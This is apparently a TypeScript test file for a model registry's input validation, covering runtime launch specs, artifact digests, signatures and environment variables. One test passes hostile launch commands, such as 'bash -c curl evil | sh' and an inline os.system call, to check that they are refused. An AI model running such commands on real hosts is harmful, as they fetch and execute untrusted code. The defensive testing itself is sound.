import { expect } from 'chai';
import { checkRuntimeInput, ErrorCode, LunaNexaError, runtimeIdFor } from '@lunanexa/contracts';
import { validateModelVersionInput, validateRuntimeInput } from '../src/registry/registry.service';
import type { CreateModelVersionInput, RegisterRuntimeInput } from '../src/registry/registry.types';

const NOW = new Date('2026-12-01T10:00:00.000Z');
const DIGEST = `sha256:${'0f'.repeat(32)}`;

const runtime = (overrides: Partial<RegisterRuntimeInput> = {}): RegisterRuntimeInput => ({
  name: 'llama-server',
  version: 'b4500',
  kind: 'openai-compatible',
  packaging: { type: 'binary', digest: DIGEST },
  launch: {
    executable: '/opt/llama.cpp/llama-server',
    args: ['--model', '{{modelPath}}', '--port', '{{port}}'],
    envAllowlist: ['CUDA_VISIBLE_DEVICES'],
    containerPort: null,
  },
  health: { path: '/health', startupTimeoutMs: 600_000, intervalMs: 2_000 },
  supportedHardware: {
    architectures: ['arm64'],
    memoryModels: ['unified'],
    minComputeCapability: '12.0',
    maxComputeCapability: '12.1',
    minCudaVersion: '13.0',
    gpusPerReplica: 1,
    minMemoryBytesPerReplica: null,
  },
  ...overrides,
});

const version = (overrides: Partial<CreateModelVersionInput> = {}): CreateModelVersionInput => ({
  model: 'qwen',
  version: '2.5-7b',
  artifact: {
    uri: 'oci://registry.local/models/qwen:2.5-7b',
    digest: DIGEST,
    sizeBytes: 4_683_073_920,
    format: 'gguf',
    source: 'hf://Qwen/Qwen2.5-7B-Instruct-GGUF',
  },
  license: 'apache-2-0',
  runtime: 'runtime-llama-server-b4500',
  requirements: {
    architectures: ['arm64'],
    memoryModels: ['unified'],
    minComputeCapability: '8.0',
    gpusPerReplica: 1,
    minMemoryBytesPerReplica: 8 * 1024 ** 3,
  },
  contextLength: 32768,
  parameterCount: 7_610_000_000,
  runtimeEnv: [],
  ...overrides,
});

function violationsOf(work: () => unknown): { code: string; paths: string[]; messages: string[] } {
  try {
    work();
  } catch (error) {
    if (!(error instanceof LunaNexaError)) throw error;
    return {
      code: error.code,
      paths: (error.violations ?? []).map((v) => v.path),
      messages: (error.violations ?? []).map((v) => v.message),
    };
  }
  throw new Error('expected a refusal');
}

describe('registry input validation', () => {
  it('builds the Runtime record of a binary runtime, id runtime-<name>-<version>', () => {
    const record = validateRuntimeInput(runtime(), NOW);
    expect(record).to.deep.include({ id: 'runtime-llama-server-b4500', kind: 'openai-compatible' });
    expect(record.createdAt).to.equal(NOW.toISOString());
    expect(runtimeIdFor('vllm', '0.11.0+cu130')).to.equal('runtime-vllm-0.11.0_cu130');
  });

  it('records the metrics format asked for, or the one its name implies, and refuses an unknown one', () => {
    expect(validateRuntimeInput(runtime(), NOW).metricsFormat).to.equal('llamacpp');
    expect(validateRuntimeInput(runtime({ metricsFormat: 'none' }), NOW).metricsFormat).to.equal('none');
    const refused = violationsOf(() => validateRuntimeInput(runtime({ metricsFormat: 'tgi' }), NOW));
    expect(refused.code).to.equal(ErrorCode.VALIDATION_FAILED);
    expect(refused.paths).to.deep.equal(['metricsFormat']);
  });

  it('refuses shells, launchers and inline code in a launch spec, naming the field', () => {
    for (const [executable, args] of [
      ['/bin/bash', ['-c', 'curl evil | sh']],
      ['sh', ['{{port}}']],
      ['/usr/bin/env', ['python3', '{{port}}']],
      ['python3', ['-c', 'import os; os.system("id")', '{{port}}']],
    ] as const) {
      const refused = violationsOf(() =>
        validateRuntimeInput(runtime({ launch: { ...runtime().launch, executable, args: [...args] } }), NOW),
      );
      expect(refused.code, executable).to.equal(ErrorCode.VALIDATION_FAILED);
      const named = refused.paths.some((p) => p === 'launch.executable' || p.startsWith('launch.args'));
      expect(named, `${executable}: ${refused.paths.join(', ')}`).to.equal(true);
    }
    const placeholder = violationsOf(() =>
      validateRuntimeInput(
        runtime({ launch: { ...runtime().launch, args: ['--port', '{{port}}', '--x', '{{secret}}'] } }),
        NOW,
      ),
    );
    expect(placeholder.messages.join()).to.contain('unknown placeholder {{secret}}');
  });

  it('refuses with exactly the violations the console shows for the same input (the contracts rules)', () => {
    const input = runtime({
      packaging: { type: 'binary', digest: 'sha256:nope' },
      launch: { ...runtime().launch, executable: 'bash', args: ['-c', 'x {{secret}}'] },
    });
    const refused = violationsOf(() => validateRuntimeInput(input, NOW));
    expect(refused.code).to.equal(ErrorCode.VALIDATION_FAILED);
    const rules = checkRuntimeInput(input, new Date(0)).violations;
    expect(rules.length).to.be.greaterThan(1);
    expect(refused.paths).to.deep.equal(rules.map((v) => v.path));
    expect(refused.messages).to.deep.equal(rules.map((v) => v.message));
  });

  it('refuses a binary runtime without {{port}}, a container without a port, and a malformed digest', () => {
    expect(
      violationsOf(() =>
        validateRuntimeInput(
          runtime({ launch: { ...runtime().launch, args: ['--model', '{{modelPath}}'] } }),
          NOW,
        ),
      ).paths,
    ).to.deep.equal(['launch.args']);
    expect(
      violationsOf(() =>
        validateRuntimeInput(
          runtime({ packaging: { type: 'container', image: 'nvcr.io/nvidia/vllm', digest: DIGEST } }),
          NOW,
        ),
      ).paths,
    ).to.deep.equal(['launch.containerPort']);
    expect(
      violationsOf(() =>
        validateRuntimeInput(runtime({ packaging: { type: 'binary', digest: 'md5:abc' } }), NOW),
      ).paths,
    ).to.deep.equal(['packaging.digest']);
  });

  it('accepts a version and records the caller as uploader', () => {
    const valid = validateModelVersionInput(version(), 'operator:otto', NOW);
    expect(valid.artifact.provenance).to.deep.equal({
      source: 'hf://Qwen/Qwen2.5-7B-Instruct-GGUF',
      uploader: 'operator:otto',
      uploadedAt: NOW.toISOString(),
    });
    expect(valid.requirements).to.deep.include({ maxComputeCapability: null, minCudaVersion: null });
  });

  it('collects every violation of a version at once, with paths a caller can act on', () => {
    const refused = violationsOf(() =>
      validateModelVersionInput(
        version({
          model: 'Qwen',
          version: 'has space',
          artifact: {
            ...version().artifact,
            uri: 'http://insecure/model',
            digest: 'sha256:XYZ',
            format: 'pickle',
          },
          requirements: {
            ...version().requirements,
            minComputeCapability: '12.1',
            maxComputeCapability: '9.0',
          },
          contextLength: 0,
          parameterCount: 1.5,
          runtimeEnv: [
            { name: 'lower', value: 'x' },
            { name: 'HF_HOME', value: 'a' },
            { name: 'HF_HOME', value: 'b' },
          ],
        }),
        'operator:otto',
        NOW,
      ),
    );
    expect(refused.code).to.equal(ErrorCode.VALIDATION_FAILED);
    expect(refused.paths).to.have.members([
      'model',
      'version',
      'artifact.uri',
      'artifact.digest',
      'artifact.format',
      'requirements.maxComputeCapability',
      'contextLength',
      'parameterCount',
      'runtimeEnv.0.name',
      'runtimeEnv.2.name',
    ]);
  });

  it('checks an artifact signature’s shape and reports it under artifact.signature', () => {
    const refused = violationsOf(() =>
      validateModelVersionInput(
        version({
          artifact: {
            ...version().artifact,
            signature: { algorithm: 'rsa', keyId: 'release-key', value: 'abc' },
          },
        }),
        'operator:otto',
        NOW,
      ),
    );
    expect(refused.paths).to.have.members(['artifact.signature.algorithm', 'artifact.signature.value']);
    const signed = validateModelVersionInput(
      version({
        artifact: {
          ...version().artifact,
          signature: { algorithm: 'ed25519', keyId: 'release-key', value: `${'A'.repeat(86)}==` },
        },
      }),
      'operator:otto',
      NOW,
    );
    expect(signed.artifact.provenance.signature?.keyId).to.equal('release-key');
  });
});
